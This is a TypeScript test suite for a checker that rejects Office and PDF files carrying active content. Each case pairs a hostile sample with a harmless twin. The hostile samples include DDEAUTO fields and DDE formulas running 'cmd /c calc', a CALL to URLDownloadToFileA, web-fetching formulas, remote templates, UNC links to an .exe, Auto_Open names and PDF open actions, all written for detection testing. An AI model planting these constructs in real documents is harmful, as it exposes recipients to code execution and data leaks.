import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { strToU8 } from 'fflate'
import { openFileWork } from '../../src/documents/room-files/file-work.ts'
import type { FileKind } from '../../src/domain/deals/data-room.ts'
import {
  field,
  formulaBook,
  MAIN_PART,
  NAMESPACES,
  OFFICE,
  officePackage,
  runsDocument,
  sheet,
  type TestPackage,
  wordDocument,
  workbook,
  xml,
} from '../_office-package.ts'
import { pdfWith, pngOf } from '../_room-files.ts'

/*
 * Files that run or fetch something when opened, each with a twin without that content: a check that rejects for
 * another reason also rejects the twin, and fails here.
 */

const DOCUMENT = MAIN_PART.docx
const WORKBOOK = MAIN_PART.xlsx
const SHEET = 'xl/worksheets/sheet1.xml'

/** A document with one more part that a relation of the main part leads to. */
const withPart = (name: string, type: string, content: string | Uint8Array, relation: string, more: TestPackage = {}) =>
  officePackage('docx', {
    parts: { [`word/${name}`]: { type, content } },
    relations: { [DOCUMENT]: [[relation, name]] },
    ...more,
  })

/** A document with a chunk of another format under a name that ends like XML. */
const withChunk = (type: string, content: string) => (isHostile: boolean) =>
  isHostile
    ? withPart('chunk.xml', type, content, 'aFChunk', { main: wordDocument('<w:altChunk r:id="rId1"/>') })
    : withPart('header1.xml', `${OFFICE}wordprocessingml.header+xml`, xml(`<w:hdr ${NAMESPACES}/>`), 'header')

/** A workbook with a sheet and one more part. */
const withBookPart = (path: string, type: string, content: string, relation: string, from: string = WORKBOOK) =>
  officePackage('xlsx', {
    parts: { [SHEET]: sheet(null), [path]: { type, content } },
    relations: {
      [WORKBOOK]: [
        ['worksheet', 'worksheets/sheet1.xml'],
        ...(from === WORKBOOK ? [[relation, `/${path}`] as [string, string]] : []),
      ],
      ...(from === WORKBOOK ? {} : { [from]: [[relation, `/${path}`]] }),
    },
  })

const THEME = xml('<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="x"/>')
const harmlessBookPart = () => withBookPart('xl/theme/theme1.xml', `${OFFICE}theme+xml`, THEME, 'theme')

/** A document with a reference to an outside resource. */
const refersTo = (type: string, target: string) =>
  officePackage('docx', { relations: { [DOCUMENT]: [[type, target, 'External']] } })

const bookWithSheet = (more: string) =>
  officePackage('xlsx', {
    parts: { [SHEET]: sheet(null, more) },
    relations: { [WORKBOOK]: [['worksheet', 'worksheets/sheet1.xml']] },
  })

const bookWithDrawing = (shape: string) =>
  withBookPart(
    'xl/drawings/drawing1.xml',
    `${OFFICE}drawing+xml`,
    xml(
      `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">${shape}</xdr:wsDr>`,
    ),
    'drawing',
    SHEET,
  )

const bookWithName = (name: string) =>
  officePackage('xlsx', {
    main: workbook(`<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets><definedNames>${name}</definedNames>`),
    parts: { [SHEET]: sheet(null) },
    relations: { [WORKBOOK]: [['worksheet', 'worksheets/sheet1.xml']] },
  })

const catalogue = (entry: string, objects = '') => pdfWith('x', { catalogue: entry, objects })
const object = (content: string) => pdfWith('x', { objects: `6 0 obj\n${content}\nendobj` })
const properties = (inner: string) =>
  officePackage('docx', {
    parts: {
      'docProps/app.xml': {
        type: `${OFFICE}extended-properties+xml`,
        content: xml(
          `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">${inner}</Properties>`,
        ),
      },
    },
    relations: { '': [['extended-properties', 'docProps/app.xml']] },
  })
const settings = (inner: string, relations: TestPackage['relations'] = {}) =>
  officePackage('docx', {
    parts: {
      'word/settings.xml': {
        type: `${OFFICE}wordprocessingml.settings+xml`,
        content: xml(`<w:settings ${NAMESPACES}>${inner}</w:settings>`),
      },
    },
    relations: { [DOCUMENT]: [['settings', 'settings.xml']], ...relations },
  })
const picture = (content: Uint8Array, type = 'image/png', name = 'media/image1.png') =>
  withPart(name, type, content, 'image')
const drawing = (inner: string) =>
  picture(
    strToU8(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`),
    'image/svg+xml',
    'media/a.svg',
  )
const item = (root: string) =>
  officePackage('docx', {
    parts: { 'customXml/item1.xml': { type: 'application/xml', content: xml(root) } },
    relations: { [DOCUMENT]: [['customXml', '../customXml/item1.xml']] },
  })

const RICH_TEXT = '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}'
const NESTED = `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`

/** Description, kind and content of a file or, if not hostile, of its harmless twin. */
const FILES: readonly [what: string, kind: FileKind, file: (isHostile: boolean) => Buffer][] = [
  ['a document with a chunk of RTF that links an object', 'docx', withChunk('application/rtf', RICH_TEXT)],
  [
    'a document with a chunk of HTML',
    'docx',
    withChunk('application/xhtml+xml', '<html><img src="https://elsewhere.example/a.png"/></html>'),
  ],
  [
    'a document with a chunk of MHT',
    'docx',
    withChunk('message/rfc822', 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p/>'),
  ],
  [
    'a document with a LINK field',
    'docx',
    (bad) => runsDocument(field(bad ? 'LINK Excel.Sheet.8 "\\\\\\\\host\\\\a.xls" "A1"' : 'PAGE \\* MERGEFORMAT')),
  ],
  [
    'a document whose DDEAUTO is spelt by QUOTE',
    'docx',
    (bad) => runsDocument(field(bad ? NESTED : 'REF _Toc1', ' c:\\\\windows\\\\cmd.exe')),
  ],
  [
    'a document with DDEAUTO in two runs',
    'docx',
    (bad) => runsDocument(field(bad ? 'DDE' : 'DA', bad ? 'AUTO cmd "/c calc"' : 'TE \\@ "d MMMM yyyy"')),
  ],
  [
    'a document that links a file of the network',
    'docx',
    (bad) => refersTo('hyperlink', bad ? 'file://host/share/a.docx' : 'https://a.example/a.docx'),
  ],
  [
    'a document with a frame',
    'docx',
    (bad) => (bad ? refersTo('frame', 'https://elsewhere.example') : refersTo('hyperlink', 'mailto:a@b.example')),
  ],
  [
    'a workbook with a query of the web',
    'xlsx',
    (bad) =>
      bad
        ? withBookPart(
            'xl/connections.xml',
            `${OFFICE}spreadsheetml.connections+xml`,
            xml(
              '<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="https://elsewhere.example"/></connection></connections>',
            ),
            'connections',
          )
        : harmlessBookPart(),
  ],
  [
    'a workbook with a sheet of Excel 4 macros',
    'xlsx',
    (bad) =>
      bad
        ? withBookPart(
            'xl/macrosheets/sheet1.xml',
            'application/vnd.ms-excel.macrosheet+xml',
            xml('<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'),
            'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
          )
        : harmlessBookPart(),
  ],
  [
    'a workbook that asks a web service',
    'xlsx',
    (bad) => formulaBook(bad ? '_xlfn.WEBSERVICE("https://elsewhere.example/"&A2)' : '_xlfn.ENCODEURL("a"&A2)'),
  ],
  [
    'a workbook that fetches an image',
    'xlsx',
    (bad) =>
      formulaBook(
        bad ? '_xlfn.IMAGE("https://elsewhere.example/a.png")' : '_xlfn.XLOOKUP("https://a.example",A:A,B:B)',
      ),
  ],
  ['a workbook with a command in a formula', 'xlsx', (bad) => formulaBook(bad ? "cmd|'/c calc'!A0" : '"cmd|"&A2')],
  [
    'a PDF that fetches a page when it opens',
    'pdf',
    (bad) =>
      catalogue(`/OpenAction << /S /${bad ? 'URI /URI (https://elsewhere.example)' : 'GoTo /D [3 0 R /Fit]'} >>`),
  ],
  [
    'a PDF whose page fetches when it is shown',
    'pdf',
    (bad) =>
      object(
        `<< /Type /Page /AA << /O << /S /${bad ? 'URI /URI (https://elsewhere.example)' : 'GoTo /D (two)'} >> >> >>`,
      ),
  ],
  [
    'a PDF with an image from elsewhere',
    'pdf',
    (bad) =>
      object(
        `<< /Subtype /Image /Width 1 /Height 1 ${bad ? '/F << /FS /URL /F (https://elsewhere.example/a.png) >>' : ''} /Length 1 >>\nstream\nx\nendstream`,
      ),
  ],
  [
    'a PDF with a thread of another file',
    'pdf',
    (bad) => object(bad ? '<< /S /Thread /F (other.pdf) /D 0 >>' : '<< /S /GoTo /D (two) >>'),
  ],

  [
    'a workbook with a query table',
    'xlsx',
    (bad) =>
      bad
        ? withBookPart(
            'xl/queryTables/queryTable1.xml',
            `${OFFICE}spreadsheetml.queryTable+xml`,
            xml('<queryTable/>'),
            'queryTable',
            SHEET,
          )
        : harmlessBookPart(),
  ],
  [
    'a workbook that refers to another',
    'xlsx',
    (bad) =>
      bad
        ? withBookPart(
            'xl/externalLinks/externalLink1.xml',
            `${OFFICE}spreadsheetml.externalLink+xml`,
            xml('<externalLink/>'),
            'externalLink',
          )
        : harmlessBookPart(),
  ],
  [
    'a workbook with a formula into a share',
    'xlsx',
    (bad) => formulaBook(bad ? "'\\\\host\\share\\[b.xlsx]S'!A1" : "'P&L 2025'!A1"),
  ],
  [
    'a workbook with a formula into another workbook',
    'xlsx',
    (bad) => formulaBook(bad ? '[1]S!A1' : 'Tab[[#This Row],[CA (k€)]]*2'),
  ],
  ['a workbook that reads a live feed', 'xlsx', (bad) => formulaBook(bad ? 'RTD("a.b",,"c")' : 'RATE(1,2,3)')],
  ['a workbook that calls an add-in', 'xlsx', (bad) => formulaBook(bad ? '_xll.EVIL(1)' : '_xlfn.SINGLE(A1)')],
  [
    'a workbook that calls code of a library',
    'xlsx',
    (bad) => formulaBook(bad ? 'CALL("urlmon","URLDownloadToFileA","JJCCJJ")' : 'CELL("filename")'),
  ],
  [
    'a workbook whose text makes a spreadsheet of Google fetch',
    'xlsx',
    (bad) =>
      formulaBook(
        `IFERROR(__xludf.DUMMYFUNCTION("${bad ? 'IMPORTDATA(""https://elsewhere.example"")' : 'UNIQUE(A1:A5)'}"),"a|b")`,
      ),
  ],
  [
    'a workbook that refers to a file by text',
    'xlsx',
    (bad) => formulaBook(bad ? `INDIRECT("'file://host/a.ods'#$S.A1")` : 'INDIRECT("S!A"&ROW())'),
  ],
  [
    'a workbook that links a program of the network',
    'xlsx',
    (bad) =>
      formulaBook(bad ? 'HYPERLINK("\\\\host\\a.exe","Accounts")' : 'HYPERLINK("https://a.example/"&A1,"Note: see")'),
  ],
  [
    'a workbook with a fetching rule for a cell',
    'xlsx',
    (bad) =>
      bookWithSheet(
        `<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>${bad ? '_xlfn.WEBSERVICE("https://elsewhere.example")' : 'A1&gt;1'}</formula></cfRule></conditionalFormatting>`,
      ),
  ],
  [
    'a workbook with a control',
    'xlsx',
    (bad) => bookWithSheet(bad ? '<controls><control shapeId="1" r:id="rId1"/></controls>' : '<pageMargins left="1"/>'),
  ],
  [
    'a workbook with a name of a macro',
    'xlsx',
    (bad) => bookWithName(`<definedName name="${bad ? 'run" xlm="1" function="1' : 'total'}">S!$A$1</definedName>`),
  ],
  [
    'a workbook whose name runs by itself',
    'xlsx',
    (bad) => bookWithName(`<definedName name="${bad ? '_xlnm.Auto_Open' : '_xlnm.Print_Area'}">S!$A$1</definedName>`),
  ],
  [
    'a workbook with a macro on a shape',
    'xlsx',
    (bad) => bookWithDrawing(`<xdr:sp macro="${bad ? '[0]!run' : ''}" textlink="S!$A$1"/>`),
  ],
  [
    'a workbook whose shape shows what it fetches',
    'xlsx',
    (bad) => bookWithDrawing(`<xdr:sp macro="" textlink="${bad ? '[1]S!$A$1' : 'S!$A$1'}"/>`),
  ],
  [
    'a workbook with a pivot table from elsewhere',
    'xlsx',
    (bad) =>
      withBookPart(
        'xl/pivotCache/pivotCacheDefinition1.xml',
        `${OFFICE}spreadsheetml.pivotCacheDefinition+xml`,
        xml(
          `<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cacheSource type="${bad ? 'external' : 'worksheet'}" connectionId="1"/></pivotCacheDefinition>`,
        ),
        'pivotCacheDefinition',
      ),
  ],
  [
    'a workbook with queries of Power Query',
    'xlsx',
    (bad) =>
      withBookPart(
        'customXml/item1.xml',
        'application/xml',
        xml(
          bad
            ? '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
            : '<labels xmlns="urn:own"/>',
        ),
        'customXml',
      ),
  ],

  [
    'a document with a picture of VML from elsewhere',
    'docx',
    (bad) =>
      runsDocument(
        `<w:r><w:pict><v:shape><v:imagedata ${bad ? 'src="https://elsewhere.example/a.png"' : 'r:id="rId9" o:title=""'}/></v:shape></w:pict></w:r>`,
      ),
  ],
  [
    'a document whose links start at a share',
    'docx',
    (bad) => properties(`<HyperlinkBase>${bad ? '\\\\host\\share\\' : 'https://a.example/'}</HyperlinkBase>`),
  ],
  [
    'a document that merges mail from a database',
    'docx',
    (bad) =>
      settings(
        bad
          ? '<w:mailMerge><w:connectString w:val="Provider=x;Data Source=\\\\host\\a.mdb"/></w:mailMerge>'
          : '<w:zoom w:percent="100"/>',
      ),
  ],
  [
    'a document with a document of its own inside',
    'docx',
    (bad) =>
      bad ? refersTo('subDocument', 'https://elsewhere.example/a.docx') : refersTo('hyperlink', 'Annexes/Bail.pdf'),
  ],
  [
    'a document with a template of the network',
    'docx',
    (bad) =>
      settings('<w:attachedTemplate r:id="rId1"/>', {
        'word/settings.xml': [
          [
            'attachedTemplate',
            bad
              ? 'file:///\\\\host\\share\\Templates\\a.dotm'
              : 'file:///C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx',
            'External',
          ],
        ],
      }),
  ],
  [
    'a document with buttons of its own',
    'docx',
    (bad) =>
      officePackage('docx', {
        parts: bad
          ? { 'customUI/customUI.xml': { type: 'application/xml', content: xml('<customUI onLoad="run"/>') } }
          : {},
        relations: {
          '': bad
            ? [['http://schemas.microsoft.com/office/2006/relationships/ui/extensibility', 'customUI/customUI.xml']]
            : [],
        },
      }),
  ],
  [
    'a document with an add-in of the web',
    'docx',
    (bad) =>
      officePackage('docx', {
        parts: bad
          ? {
              'word/webextensions/taskpanes.xml': {
                type: 'application/vnd.ms-office.webextensiontaskpanes+xml',
                content: xml('<taskpanes/>'),
              },
            }
          : {},
        relations: {
          '': bad
            ? [
                [
                  'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
                  'word/webextensions/taskpanes.xml',
                ],
              ]
            : [],
        },
      }),
  ],
  [
    'a document with a page of the web for a picture',
    'docx',
    (bad) => picture(bad ? strToU8('<html><script>1</script></html>') : pngOf()),
  ],
  [
    'a document with a page of the web for a header',
    'docx',
    (bad) =>
      withPart(
        'header1.xml',
        `${OFFICE}wordprocessingml.header+xml`,
        xml(bad ? '<html/>' : `<w:hdr ${NAMESPACES}/>`),
        'header',
      ),
  ],
  [
    'a document with a page of the web for data',
    'docx',
    (bad) => item(bad ? '<html xmlns="http://www.w3.org/1999/xhtml"/>' : '<data xmlns="urn:own"/>'),
  ],
  [
    'a document with data that nothing refers to',
    'docx',
    (bad) =>
      bad
        ? officePackage('docx', { parts: { 'word/hidden.xml': { type: 'application/xml', content: xml('<a/>') } } })
        : item('<a/>'),
  ],
  [
    'a document with a drawing that fetches',
    'docx',
    (bad) => drawing(`<image xlink:href="${bad ? 'https://elsewhere.example/a.png' : 'data:image/png;base64,AA'}"/>`),
  ],
  [
    'a document with a drawing that runs',
    'docx',
    (bad) => drawing(bad ? '<rect onload="run()"/>' : '<rect fill="url(#a)"/>'),
  ],
  [
    'a document that says an address is a part of its own',
    'docx',
    (bad) =>
      officePackage('docx', {
        relations: { [DOCUMENT]: [['image', bad ? 'https://elsewhere.example/a.png' : 'media/gone.png']] },
      }),
  ],
  [
    'a document with a film',
    'docx',
    (bad) =>
      runsDocument(
        bad ? '<w:r><wp15:webVideoPr xmlns:wp15="x" embeddedHtml="&lt;iframe/>"/></w:r>' : '<w:r><w:t>x</w:t></w:r>',
      ),
  ],
  [
    'a document with a control',
    'docx',
    (bad) => runsDocument(`<w:r><w:object>${bad ? '<w:control r:id="rId9"/>' : ''}</w:object></w:r>`),
  ],

  [
    'a PDF that prints when it opens',
    'pdf',
    (bad) => catalogue(`/OpenAction ${bad ? '<< /S /Named /N /Print >>' : '[3 0 R /Fit]'}`),
  ],
  [
    'a PDF that fetches after it has gone to a page',
    'pdf',
    (bad) =>
      catalogue(
        `/OpenAction << /S /GoTo /D [3 0 R /Fit] ${bad ? '/Next << /S /URI /URI (https://elsewhere.example) >>' : ''} >>`,
      ),
  ],
  [
    'a PDF with a link into another file',
    'pdf',
    (bad) =>
      object(`<< /Type /Annot /Subtype /Link /A << /S /${bad ? 'GoToR /F (other.pdf) /D (a)' : 'GoTo /D (a)'} >> >>`),
  ],
  [
    'a PDF with a link to a file of the network',
    'pdf',
    (bad) => object(`<< /Subtype /Link /A << /S /URI /URI (${bad ? 'file://host/share' : 'https://a.example'}) >> >>`),
  ],
  [
    'a PDF with links that start at a share',
    'pdf',
    (bad) => catalogue(`/URI << /Base (${bad ? 'file://host/' : 'https://a.example/'}) >>`),
  ],
  [
    'a PDF with a page of another file',
    'pdf',
    (bad) =>
      object(
        `<< /Subtype /Form /BBox [0 0 1 1] ${bad ? '/Ref << /F (other.pdf) /Page 1 >>' : ''} /Length 1 >>\nstream\nq\nendstream`,
      ),
  ],
  [
    'a PDF with a picture of a printing house',
    'pdf',
    (bad) =>
      object(`<< /Subtype /Image ${bad ? '/OPI << /2.0 << /F (a.tif) >> >>' : ''} /Length 1 >>\nstream\nx\nendstream`),
  ],
  [
    'a PDF with a program in PostScript',
    'pdf',
    (bad) => object(`<< /Type /XObject /Subtype /${bad ? 'PS' : 'Form'} /Length 1 >>\nstream\nq\nendstream`),
  ],
  ['a PDF with a film', 'pdf', (bad) => object(`<< /Annots [<< /Subtype /${bad ? 'Movie' : 'Highlight'} >>] >>`)],
  [
    'a PDF with a file under short names',
    'pdf',
    (bad) => object(bad ? '<< /Type /F /UF (a.exe) >>' : '<< /Type /Font /F 4 >>'),
  ],
]

describe('file check for active content', () => {
  const work = openFileWork()
  it('is tested with at least 37 kinds of file', () => {
    assert.ok(FILES.length >= 37, String(FILES.length))
  })
  for (const [what, kind, file] of FILES)
    it(`rejects ${what} as active and accepts the file without it`, async () => {
      assert.equal(await work.check(kind, async () => new Uint8Array(file(true))), 'active')
      assert.equal(await work.check(kind, async () => new Uint8Array(file(false))), null)
    })
  it('rejects a document that lenient and strict readers parse differently', async () => {
    const odd = officePackage('docx', { main: wordDocument('<w:p/><!-- a -- b --><w:p/>') })
    assert.equal(await work.check('docx', async () => new Uint8Array(odd)), 'unreadable')
  })
})
